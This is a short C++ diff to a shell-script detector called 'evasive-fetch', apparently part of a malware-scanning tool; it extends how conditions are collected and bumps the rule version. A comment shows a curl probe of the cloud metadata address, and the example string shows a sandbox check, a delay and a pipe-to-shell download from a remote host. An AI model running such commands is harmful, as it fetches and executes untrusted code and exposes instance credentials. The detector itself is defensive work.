@@ -149,6 +149,7 @@ class EvasiveFetch final : public Detector {
     for (const ShellCommand& command : unit.facts.commands)
       if (command.condition || program(command) == "[" || program(command) == "test" || program(command) == "[[")
         conditions.insert(command.line);
+    conditions.insert(last);  // curl http://169.254.169.254/ && …
     for (const ShellCommand& command : unit.facts.commands) {
       if (command.line > last || !conditions.contains(command.line)) continue;
       const std::string_view probe = probe_of(command);
@@ -164,7 +165,7 @@ class EvasiveFetch final : public Detector {
 
 const util::Registered<EvasiveFetch> registered{{
     .id = "evasive-fetch",
-    .version = 1,
+    .version = 2,
     .summary = "fetched code that is renewed, delayed, or run only in some places",
     .example = "[ $(nproc) -lt 4 ] && exit; sleep 600; curl http://192.0.2.1/x | sh",
     .rules = k_rows,
